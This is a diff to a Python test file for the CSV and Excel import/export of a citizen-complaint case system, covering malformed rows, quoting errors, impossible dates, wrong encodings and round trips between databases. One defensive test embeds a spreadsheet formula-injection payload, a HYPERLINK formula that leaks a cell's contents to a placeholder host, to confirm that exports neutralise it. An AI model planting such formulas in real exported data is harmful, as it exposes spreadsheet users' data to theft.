@@ -11,7 +11,7 @@ from desktop.errors import ValidationFailed
 from desktop.models import Case
 from desktop.models.enums import CaseState
 from desktop.services.exchange import table_import
-from desktop.services.exchange.table_export import HEADERS, export_table
+from desktop.services.exchange.table_export import HEADERS, escape_text, export_table
 from desktop.services.queue import QueueFilter
 
 
@@ -19,6 +19,20 @@ from desktop.services.queue import QueueFilter
 def world_db(db, system):
     world.build(db, system)
     return db
+
+
+@pytest.fixture
+def other_db(_templates, backend, system, tmp_path):
+    """A second database of the same world, for round trips."""
+    other_dir = tmp_path / "other"
+    other_dir.mkdir()
+    other = _templates[backend].make(True, other_dir)
+    world.build(other, system)
+    yield other
+    if backend == "postgresql":
+        _templates[backend].drop(other)
+    else:
+        other.dispose()
 
 
 def _row(number: str, **overrides) -> dict:
@@ -75,7 +89,7 @@ def test_our_own_export_imported_back_is_refused_naming_each_case(world_db, syst
         numbers = [row["编号"] for row in csv.DictReader(exported)]
     assert sorted(numbers) == ["450503103-2025-000001", "450503103-2025-000002"]
     assert _refusal(world_db, system, path, township_code=world.QIAOGANG) == [
-        f"第 {line} 行 字段 编号:编号 {number} 是本库已有的案件 {number}(这一行导出自本库),不能再导入为新案件;"
+        f"第 {line} 行 字段 编号:编号 {number} 与本库已有案件 {number} 的编号和受理时间都相同(这一行多半导出自本库),不能再导入为新案件;"
         "请删去这一行后再导入"
         for line, number in enumerate(numbers, start=2)
     ]
@@ -96,3 +110,97 @@ def test_a_row_without_coordinates_needs_a_township_named_in_the_csv_columns(wor
     assert _case_count(world_db) == 0
     report = table_import.import_file(world_db, system, path, township_code=world.QIAOGANG)
     assert (report.imported, report.unrouted, report.by_township) == (2, 1, {world.QIAOGANG: 2})
+
+
+def test_a_row_with_more_or_fewer_cells_than_the_header_is_refused_with_both_counts(world_db, system, tmp_path):
+    """A comma outside quotes shifts every cell after it: the row is named, nothing is guessed."""
+    path = _write(tmp_path, [_row("OLD-1"), _row("OLD-2")])
+    lines = path.read_text(encoding="utf-8-sig").splitlines()
+    lines[1] += ",多出来的,两格"
+    lines[2] = ",".join(lines[2].split(",")[:5])
+    path.write_text("\n".join(lines) + "\n", encoding="utf-8-sig")
+    assert _refusal(world_db, system, path) == [
+        f"第 2 行:有 {len(HEADERS) + 2} 列,表头有 {len(HEADERS)} 列(可能某格内容中的逗号未加引号);整行未读",
+        f"第 3 行:有 5 列,表头有 {len(HEADERS)} 列;整行未读"]
+    assert _case_count(world_db) == 0
+
+
+def test_an_unclosed_quote_is_named_at_its_line(world_db, system, tmp_path):
+    path = _write(tmp_path, [_row("OLD-1"), _row("OLD-2")])
+    text = path.read_text(encoding="utf-8-sig").replace("侨北路路灯不亮", '"侨北路路灯不亮', 1)
+    path.write_text(text, encoding="utf-8-sig")
+    assert _refusal(world_db, system, path) == ["第 2 行起:无法按 CSV 读取:引号未闭合,一直到文件末尾;此后的行未检查"]
+    path.write_text(text + "x" * 140_000 + "\n", encoding="utf-8-sig")  # past the csv module's field limit
+    assert _refusal(world_db, system, path) == [
+        "第 2 行起:无法按 CSV 读取:一格超过 128 KB,多半是引号未闭合;此后的行未检查"]
+    path.write_text(text.replace('"侨北路路灯不亮', '"侨北路"路灯不亮"', 1), encoding="utf-8-sig")
+    assert "右引号后应紧跟逗号" in _refusal(world_db, system, path)[0]
+    assert _case_count(world_db) == 0
+
+
+def test_impossible_times_are_refused_not_numbered_in_that_year(world_db, system, tmp_path):
+    path = _write(tmp_path, [
+        _row("T-1", 受理时间="2099-11-01 20:47"), _row("T-2", 受理时间="1900-01-01 00:00"),
+        _row("T-3", 办理期限="2020-01-01 00:00"), _row("T-4", 办结时间="2026-03-01 08:00", 状态="已办结"),
+        _row("T-5", 办理期限="2031-03-02 09:30"), _row("T-6")])
+    problems = _refusal(world_db, system, path)
+    assert [p.split(":")[0] for p in problems] == [
+        "第 2 行 字段 受理时间", "第 3 行 字段 受理时间", "第 4 行 字段 办理期限", "第 5 行 字段 办结时间",
+        "第 6 行 字段 办理期限"]
+    assert "晚于现在" in problems[0] and "早于 2000 年" in problems[1] and "一年以内" in problems[2]
+    assert _case_count(world_db) == 0
+
+
+def test_excel_unicode_text_and_binary_files_are_refused_as_such(world_db, system, tmp_path):
+    path = tmp_path / "cases.csv"
+    path.write_bytes(",".join(HEADERS).encode("utf-16"))
+    with pytest.raises(ValidationFailed, match="UTF-16 编码.*CSV UTF-8"):
+        table_import.import_file(world_db, system, path)
+    path.write_bytes(bytes(range(256)) * 1000)
+    with pytest.raises(ValidationFailed) as caught:
+        table_import.import_file(world_db, system, path)
+    assert "既不是有效的 UTF-8 也不是有效的 GBK" in caught.value.message and len(caught.value.problems) <= 200
+
+
+def test_texts_that_look_like_formulas_are_exported_inert_and_imported_back_unchanged(world_db, system, tmp_path):
+    """A resident's "=HYPERLINK(…)" must not run in Excel; the CSV round trip keeps every text exact."""
+    import openpyxl
+
+    texts = ['=HYPERLINK("http://example.invalid/?x="&A1,"点击")', "+86 138 0779 1234", "-5 度", "@所有人", "'引号开头"]
+    path = _write(tmp_path, [_row(f"F-{n}", 诉求描述=escape_text(text), 标题=escape_text(text))
+                             for n, text in enumerate(texts)])
+    assert table_import.import_file(world_db, system, path, township_code=world.QIAOGANG).imported == len(texts)
+    csv_out, xlsx_out = tmp_path / "out.csv", tmp_path / "out.xlsx"
+    export_table(world_db, system, csv_out, QueueFilter(states=frozenset()), "csv")
+    export_table(world_db, system, xlsx_out, QueueFilter(states=frozenset()), "xlsx")
+    with csv_out.open(encoding="utf-8-sig", newline="") as exported:
+        cells = {row["诉求描述"] for row in csv.DictReader(exported)}
+    assert cells == {"'" + text for text in texts}  # what a spreadsheet shows as text
+    sheet = openpyxl.load_workbook(xlsx_out).active
+    column = HEADERS.index("诉求描述") + 1
+    written = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
+    assert {cell.value for cell in written} == set(texts) and {cell.data_type for cell in written} == {"s"}
+
+    again = table_import.parse_rows(csv_out.read_text(encoding="utf-8-sig"), "out.csv")[0]
+    assert {request.description for request in again} == set(texts)
+
+
+def test_an_exported_workbook_imports_into_another_database(world_db, other_db, system, tmp_path):
+    other = other_db
+    path = _write(tmp_path, [_row("X-1", 诉求人="王女士", 联系电话="13807791234"), _row("X-2", 经度="", 纬度="")])
+    table_import.import_file(world_db, system, path, township_code=world.QIAOGANG)
+    workbook = tmp_path / "out.xlsx"
+    export_table(world_db, system, workbook, QueueFilter(states=frozenset()), "xlsx")
+    report = table_import.import_file(other, system, workbook, fmt="xlsx", township_code=world.QIAOGANG)
+    assert (report.imported, report.unrouted) == (2, 1)
+    with other.session() as session:
+        phones = set(session.scalars(select(Case.requester_phone)))
+    assert phones == {"13807791234", None}
+    assert _refusal(other, system, workbook, fmt="xlsx", township_code=world.QIAOGANG)[0].startswith("第 2 行 字段 编号")
+
+
+def test_a_file_that_is_no_workbook_is_refused_by_name(world_db, system, tmp_path):
+    path = tmp_path / "cases.xlsx"
+    path.write_text("编号,事项编码\n", encoding="utf-8")
+    with pytest.raises(ValidationFailed, match="cases.xlsx 不是 Excel 工作簿"):
+        table_import.import_file(world_db, system, path, fmt="xlsx")
